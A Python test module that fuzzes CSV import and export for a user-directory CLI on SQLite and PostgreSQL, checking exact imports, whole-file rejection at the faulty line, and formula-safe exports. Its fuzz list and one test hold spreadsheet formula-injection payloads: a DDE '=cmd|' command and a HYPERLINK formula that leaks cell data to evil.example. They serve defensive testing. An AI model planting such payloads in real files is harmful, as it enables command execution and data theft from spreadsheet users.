"""Directory CSV files under fuzzing, on SQLite and PostgreSQL.

A good file (UTF-8 with or without BOM, or UTF-16; any column order and subset; blank
lines; quoted newlines; formula-like cells) imports exactly. A file with one bad thing in
it (a duplicate user_name, a latin-1 byte, a NUL, a huge or overlong cell, a wrong field
count, a bad header...) is rejected as a whole with that line in the error, and the store
is byte-for-byte what it was. An export never holds a cell a spreadsheet would run, and
imports back to the same directory.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from contextlib import nullcontext
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from cli.main import app as roster_app
from directory.config import Safety
from directory.csvexport import export_csv
from directory.csvfile import FORMULA_START, KNOWN_COLUMNS, TEXT_COLUMNS, escape_cell
from directory.errors import CsvImportError
from directory.importer import ImportResult, import_csv
from directory.models import Base
from directory.store import Store
from tests.conftest import postgres_schema

OPTIONAL = [c for c in KNOWN_COLUMNS if c not in ("user_name", "email")]
LIMITS = {"email": 320, "employee_number": 64}
#: io's universal newlines, which the csv reader's line numbers count
LINE_BREAK = re.compile(r"\r\n|\r|\n")

# -- fixtures: one store per dialect for the module, emptied between examples -------------


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
def store(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Store]:
    sqlite = f"sqlite:///{tmp_path_factory.mktemp('db') / 'roster.db'}"
    database = nullcontext(sqlite) if request.param == "sqlite" else postgres_schema()
    with database as url, Store(url) as opened:
        yield opened


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One folder for every example (hypothesis reruns a test body, not its fixtures)."""
    return tmp_path_factory.mktemp("csv")


def wipe(store: Store) -> None:
    with store.engine.begin() as conn:
        for table in reversed(Base.metadata.sorted_tables):
            conn.execute(table.delete())


def dump(store: Store) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table: what "the directory is unchanged" means."""
    with store.engine.connect() as conn:
        return {
            table.name: sorted(map(tuple, conn.execute(sa.select(table))), key=repr)
            for table in Base.metadata.sorted_tables
        }


def directory_of(store: Store) -> dict[str, dict[str, Any]]:
    """What an import sets, by user_name, without ids or timestamps."""
    users = {u["user_name"]: u for u in store.read_users().to_dict("records")}
    result = {}
    for name, user in users.items():
        found = store.find_user(user["user_id"])
        attributes = {k: user[k] for k in TEXT_COLUMNS if k != "user_name"}
        result[name] = attributes | {
            "active": bool(user["active"]),
            "apps": set(found["direct_apps"]),
            "groups": set(found["groups"]),
        }
    return result


def run_import(store: Store, path: Path) -> ImportResult:
    return import_csv(store, path, safety=Safety())


# -- strategies ---------------------------------------------------------------------------

#: anything a cell can hold but NUL (PostgreSQL cannot store it) and lone surrogates
chars = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''-twice",
    "'plain quote",
    "=1,2;3\n=4",
    "[/b] not a tag",  # rich markup, for the CLI's tables
    "[bold]plain",
]


def text_values(max_size: int) -> st.SearchStrategy[str]:
    """Import strips cells, so the values it can store have no outer whitespace."""
    return (
        st.text(chars, max_size=min(max_size, 30))
        | st.sampled_from(FORMULAS)
        | st.just("x" * max_size)
    ).map(str.strip)


user_names = st.text(chars, min_size=1, max_size=20).map(str.strip).filter(bool)
emails = st.builds(
    "{}@{}.{}".format,
    st.text(
        st.characters(exclude_categories=["Cs", "Z", "Cc"], exclude_characters="@\x00"),
        min_size=1,
        max_size=12,
    )
    | st.sampled_from(["=cmd|x", "+a", "-b", "'=c"]),
    st.from_regex(r"\A[a-z0-9-]{1,10}\Z"),
    st.from_regex(r"\A[a-z]{2,6}\Z"),
)
app_names = st.from_regex(r"\A[A-Za-z0-9][A-Za-z0-9_.-]{0,12}\Z")
group_names = (
    st.text(chars.filter(lambda c: c != ";"), min_size=1, max_size=20).map(str.strip).filter(bool)
)
ACTIVE = {"": True, "true": True, "Yes": True, "1": True, "FALSE": False, "no": False, "0": False}


@dataclass
class Person:
    user_name: str
    email: str
    text: dict[str, str]
    active: str
    apps: list[str]
    groups: list[str]


@dataclass
class CsvSpec:
    """A file to write: its columns, people and layout, and what it must import as."""

    columns: list[str]
    people: list[Person]
    encoding: str
    newline: str
    blank_after: set[int] = field(default_factory=set)
    header_spelling: dict[str, str] = field(default_factory=dict)

    def cells(self, person: Person) -> list[str]:
        values = {
            "user_name": person.user_name,
            "email": person.email,
            "active": person.active,
            "apps": ";".join(person.apps),
            "groups": " ; ".join(person.groups),
            **person.text,
        }
        return [escape_cell(values.get(column, "x")) for column in self.columns]

    def text(self) -> tuple[str, list[int]]:
        """The file's text and the line each person's record starts on."""
        out = io.StringIO()
        starts = []
        header = [self.header_spelling.get(c, c) for c in self.columns]
        # With "\n" alone, QUOTE_MINIMAL would leave a lone "\r" in a value unquoted, and
        # every reader (Roster's, Excel's) would break the line there.
        quoting = csv.QUOTE_MINIMAL if self.newline == "\r\n" else csv.QUOTE_ALL
        writer = csv.writer(out, lineterminator=self.newline, quoting=quoting)
        writer.writerow(header)
        for index, person in enumerate(self.people):
            starts.append(line_of(out.getvalue(), len(out.getvalue())))
            writer.writerow(self.cells(person))
            if index in self.blank_after:
                out.write("," * (len(self.columns) - 1) + self.newline + self.newline)
        return out.getvalue(), starts

    def write(self, path: Path) -> list[int]:
        text, starts = self.text()
        path.write_bytes(text.encode(self.encoding))
        return starts

    def expected(self) -> dict[str, dict[str, Any]]:
        spelling: dict[str, str] = {}
        for person in self.people:
            for group in person.groups:
                spelling.setdefault(group.lower(), group)
        return {
            person.user_name: {
                name: (person.text.get(name) or None) if name in self.columns else None
                for name in TEXT_COLUMNS
                if name not in ("user_name",)
            }
            | {
                "email": person.email,
                "active": ACTIVE[person.active] if "active" in self.columns else True,
                "apps": set(person.apps) if "apps" in self.columns else set(),
                "groups": {spelling[g.lower()] for g in person.groups},
            }
            for person in self.people
        }


def line_of(text: str, index: int) -> int:
    return len(LINE_BREAK.findall(text, 0, index)) + 1


@st.composite
def people(draw: st.DrawFn, count: int) -> list[Person]:
    names = draw(st.lists(user_names, min_size=count, max_size=count, unique_by=str.lower))
    result = []
    for index, name in enumerate(names):
        text = {
            column: draw(text_values(LIMITS.get(column, 255)))
            for column in TEXT_COLUMNS
            if column not in ("user_name", "email", "manager")
        }
        others = names[:index] + names[index + 1 :]
        text["manager"] = draw(st.sampled_from(["", *others])) if others else ""
        result.append(
            Person(
                user_name=name,
                email=draw(emails),
                text=text,
                active=draw(st.sampled_from(sorted(ACTIVE))),
                apps=draw(st.lists(app_names, max_size=3, unique_by=str.lower)),
                groups=draw(st.lists(group_names, max_size=3, unique_by=str.lower)),
            )
        )
    return result


@st.composite
def csv_specs(draw: st.DrawFn, min_people: int = 1) -> CsvSpec:
    optional = draw(st.lists(st.sampled_from(OPTIONAL), unique=True))
    columns = draw(st.permutations(["user_name", "email", *optional]))
    crowd = draw(people(draw(st.integers(min_people, 6))))
    if "groups" not in columns:
        crowd = [replace(p, groups=[]) for p in crowd]
    return CsvSpec(
        columns=list(columns),
        people=crowd,
        encoding=draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16"])),
        newline=draw(st.sampled_from(["\n", "\r\n"])),
        blank_after=draw(st.sets(st.integers(0, len(crowd) - 1), max_size=2)),
        header_spelling={"email": draw(st.sampled_from(["email", " Email ", "EMAIL"]))},
    )


# -- a good file imports exactly; an export round-trips -----------------------------------


@given(spec=csv_specs())
def test_a_good_file_imports_exactly(store: Store, workdir: Path, spec: CsvSpec) -> None:
    wipe(store)
    path = workdir / "people.csv"
    spec.write(path)
    result = run_import(store, path)
    assert result.created == len(spec.people)
    assert directory_of(store) == spec.expected()


@given(spec=csv_specs())
def test_export_never_writes_a_formula_and_imports_back_the_same(
    store: Store, workdir: Path, spec: CsvSpec
) -> None:
    wipe(store)
    source = workdir / "people.csv"
    spec.write(source)
    run_import(store, source)
    before = directory_of(store)

    exported = workdir / "export.csv"
    assert export_csv(store, exported) == len(spec.people)
    with exported.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(KNOWN_COLUMNS)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]

    again = run_import(store, exported)
    assert (again.created, again.updated, again.unchanged) == (0, 0, len(spec.people))
    wipe(store)
    run_import(store, exported)
    assert directory_of(store) == before


# -- a bad file is rejected whole, at its line --------------------------------------------

BASE = "user_name,email,apps,groups\nkeeper,keeper@example.com,chat,staff\n"


@dataclass
class BadFile:
    spec: CsvSpec
    fault: str
    row: int

    def write(self, path: Path) -> int:
        """Write the file with its fault; returns the line the error must name."""
        spec, person = self.spec, self.spec.people[self.row]
        if self.fault == "missing_column":
            spec.columns.remove("email")
            spec.write(path)
            return 1
        if self.fault in ("unknown_column", "repeated_column"):
            spec.columns.append("shoe_size" if self.fault == "unknown_column" else "user_name")
            spec.write(path)
            return 1
        if self.fault == "duplicate":  # in another case where the case maps back
            first = spec.people[0].user_name
            upper = first.upper()
            person.user_name = upper if upper.lower() == first.lower() else first
        elif self.fault == "bad_email":
            person.email = "not-an-email"
        elif self.fault == "long_email":
            person.email = "x" * 320 + "@example.com"
        elif self.fault == "huge_cell":
            person.email = "x" * 200_000 + "@example.com"  # past the csv module's field limit
        elif self.fault == "bad_active":
            person.active = "maybe"
        elif self.fault == "missing_email":
            person.email = ""
        elif self.fault == "nul":
            person.user_name += "\x00"
        elif self.fault == "extra_field":  # every row has one field more than the header
            header, _ = replace(spec, people=[]).text()
            spec.columns.append("__extra__")
            for other in spec.people:
                other.text.setdefault("__extra__", "surplus")
            text, starts = spec.text()
            body = text[text.index(spec.newline) + len(spec.newline) :]
            return _write(path, (header + body).encode(spec.encoding), starts[self.row])
        text, starts = spec.text()
        data = text.encode(spec.encoding)
        if self.fault == "nul":
            return _write(path, data, line_of(text, text.index("\x00")))
        if self.fault == "latin1":
            offset = len(text[: _index_of_line(text, starts[self.row])].encode(spec.encoding))
            return _write(path, data[:offset] + b"caf\xe9," + data[offset:], starts[self.row])
        return _write(path, data, starts[self.row])


def _write(path: Path, data: bytes, line: int) -> int:
    path.write_bytes(data)
    return line


def _index_of_line(text: str, line: int) -> int:
    breaks = list(LINE_BREAK.finditer(text))
    return 0 if line == 1 else breaks[line - 2].end()


FAULTS = [
    "duplicate",
    "bad_email",
    "long_email",
    "huge_cell",
    "missing_email",
    "bad_active",
    "nul",
    "latin1",
    "extra_field",
    "missing_column",
    "unknown_column",
    "repeated_column",
]


@st.composite
def bad_files(draw: st.DrawFn, fault: str) -> BadFile:
    spec = draw(csv_specs(min_people=2))
    if fault == "bad_active" and "active" not in spec.columns:
        spec.columns.append("active")
    if fault == "latin1":
        spec.encoding = draw(st.sampled_from(["utf-8", "utf-8-sig"]))
    return BadFile(spec, fault, draw(st.integers(1, len(spec.people) - 1)))


@pytest.mark.parametrize("fault", FAULTS)
@settings(max_examples=6)
@given(data=st.data())
def test_a_bad_file_is_rejected_whole_at_its_line(
    store: Store, workdir: Path, fault: str, data: st.DataObject
) -> None:
    bad = data.draw(bad_files(fault))
    wipe(store)
    (workdir / "base.csv").write_text(BASE)
    run_import(store, workdir / "base.csv")
    before = dump(store)
    path = workdir / "bad.csv"
    line = bad.write(path)

    with pytest.raises(CsvImportError) as caught:
        run_import(store, path)
    assert line in [error.line for error in caught.value.errors], caught.value.errors
    assert str(caught.value).startswith(f"{path}: ")
    assert all(len(str(error)) < 400 for error in caught.value.errors)
    assert dump(store) == before


# -- through the roster command -----------------------------------------------------------


@dataclass
class Roster:
    """``roster --config <config> directory ...``, and the store it writes."""

    config: Path
    store: Store

    def __call__(self, *args: str) -> Any:
        return CliRunner().invoke(roster_app, ["--config", str(self.config), "directory", *args])


@pytest.fixture(scope="module")
def roster(workdir: Path) -> Iterator[Roster]:
    config = workdir / "roster.yaml"
    database = f"sqlite:///{workdir / 'cli.db'}"
    config.write_text(f"database_url: '{database}'\n")
    with pytest.MonkeyPatch.context() as env, Store(database) as store:
        env.delenv("ROSTER_DATABASE_URL", raising=False)
        yield Roster(config, store)


@settings(max_examples=15)
@given(bad=st.sampled_from(FAULTS).flatmap(bad_files))
def test_the_cli_names_the_file_and_line_and_writes_nothing(
    roster: Roster, workdir: Path, bad: BadFile
) -> None:
    path = workdir / "bad.csv"
    line = bad.write(path)
    before = dump(roster.store)
    result = roster("import", str(path))
    assert result.exit_code == 2
    assert isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert result.stderr.startswith(f"error: {path}: ")
    assert f"line {line}: " in result.stderr
    assert result.stdout == ""
    assert dump(roster.store) == before


@settings(max_examples=10)
@given(spec=csv_specs())
def test_the_cli_exports_what_it_imported(roster: Roster, workdir: Path, spec: CsvSpec) -> None:
    wipe(roster.store)
    spec.write(workdir / "people.csv")
    assert roster("import", str(workdir / "people.csv")).exit_code == 0
    before = directory_of(roster.store)
    for listing in (("users",), ("groups",), ("users", "--json")):
        shown = roster(*listing)
        assert shown.exit_code == 0 and "Traceback" not in shown.output, shown.output
    result = roster("export", str(workdir / "out.csv"))
    assert result.exit_code == 0, result.output
    assert result.stdout == f"Exported {len(spec.people)} users to {workdir / 'out.csv'}.\n"
    wipe(roster.store)
    assert roster("import", str(workdir / "out.csv")).exit_code == 0
    assert directory_of(roster.store) == before


def test_export_to_a_missing_folder_is_one_clear_error(roster: Roster, workdir: Path) -> None:
    target = workdir / "no" / "such" / "out.csv"
    result = roster("export", str(target))
    assert result.exit_code == 2
    assert result.stderr == f"error: {target}: cannot write the file (No such file or directory)\n"
    assert not target.parent.exists()


# -- the shapes fuzzing found, kept as examples -------------------------------------------


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (
            b"user_name,email\nzo\xe9,z@example.com\n",
            "line 2: not UTF-8 text (invalid continuation byte at byte 18)",
        ),
        (
            "user_name,email\nzoe,z@example.com\n".encode("utf-16-le"),
            "line 1: a NUL character (UTF-16 without a byte order mark?)",
        ),
        (b"user_name,email\nada,a@example.com\nbob\x00,b@example.com\n", "line 3: a NUL character"),
        (b"user_name,email\nada," + b"x" * 1000 + b"\n", "line 2: invalid email 'xxxxxxxxxxxx"),
        (b"user_name,email,active\nada,a@example.com," + b"y" * 1000 + b"\n", "…"),
        (b'user_name,email\n"ada,a@example.com\n', "line 2: not valid CSV: unexpected end of data"),
    ],
)
def test_unreadable_files_name_their_line(
    store: Store, workdir: Path, data: bytes, expected: str
) -> None:
    wipe(store)
    path = workdir / "bad.csv"
    path.write_bytes(data)
    with pytest.raises(CsvImportError) as caught:
        run_import(store, path)
    message = "\n".join(str(error) for error in caught.value.errors)
    assert expected in message
    assert len(message) < 300
    assert dump(store) == {name: [] for name in dump(store)}


def test_formula_cells_import_as_written_and_one_quote_is_dropped(
    store: Store, workdir: Path
) -> None:
    wipe(store)
    path = workdir / "formulas.csv"
    path.write_text(
        "user_name,email,display_name,title,department\n"
        "ada,ada@example.com,=cmd|' /C calc'!A0,'=1+1,'plain\n"
        "bob,bob@example.com,''@x,\t-5,+1\n",
        encoding="utf-8",
    )
    run_import(store, path)
    users = directory_of(store)
    assert [users["ada"][k] for k in ("display_name", "title", "department")] == [
        "=cmd|' /C calc'!A0",
        "=1+1",
        "'plain",
    ]
    assert [users["bob"][k] for k in ("display_name", "title", "department")] == ["'@x", "-5", "+1"]


def test_values_that_look_like_markup_are_shown_as_written(roster: Roster, workdir: Path) -> None:
    """Rich reads "[/b]" as a closing tag: the tables crashed on such a name (MarkupError)."""
    wipe(roster.store)
    path = workdir / "markup.csv"
    path.write_text("user_name,email,display_name,groups\n[b]ada,ada@example.com,[/b] Ada,[/g]\n")
    assert roster("import", str(path)).exit_code == 0
    for listing in (("users",), ("groups",), ("show", "[b]ada")):
        result = roster(*listing)
        assert result.exit_code == 0, result.output
        assert "[/b] Ada" in result.stdout or "[/g]" in result.stdout
